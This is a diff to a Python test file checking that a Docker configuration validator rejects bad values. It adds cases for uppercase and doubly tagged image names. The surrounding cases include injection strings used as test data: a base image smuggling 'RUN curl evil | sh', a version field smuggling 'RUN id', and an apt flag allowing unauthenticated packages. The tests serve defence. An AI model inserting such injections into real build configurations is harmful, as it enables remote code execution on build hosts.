@@ -297,6 +297,8 @@ def test_env_values_are_escaped_so_they_cannot_expand_or_break_out() -> None:
         ({"system_packages": ["-o=APT::Get::AllowUnauthenticated=1"]}, "is not a package name"),
         ({"base_image": "python:3.11\nRUN curl evil | sh"}, "docker.base_image"),
         ({"base_image": "python:3.11 AS x"}, "is not an image reference"),
+        ({"base_image": "Python:3.11"}, "'Python' has uppercase letters"),  # docker build refuses it
+        ({"base_image": "python:3.11:slim"}, "tag '3.11:slim'"),
         ({"python_version": "3.11-slim\nRUN id"}, "docker.python_version"),
         ({"python_version": 3.1}, "docker.python_version: '3.1' must be a quoted string"),  # YAML's 3.10
         ({"python_version": "3.8"}, "docker.python_version: '3.8' is not supported (choose 3.10–3.13)"),
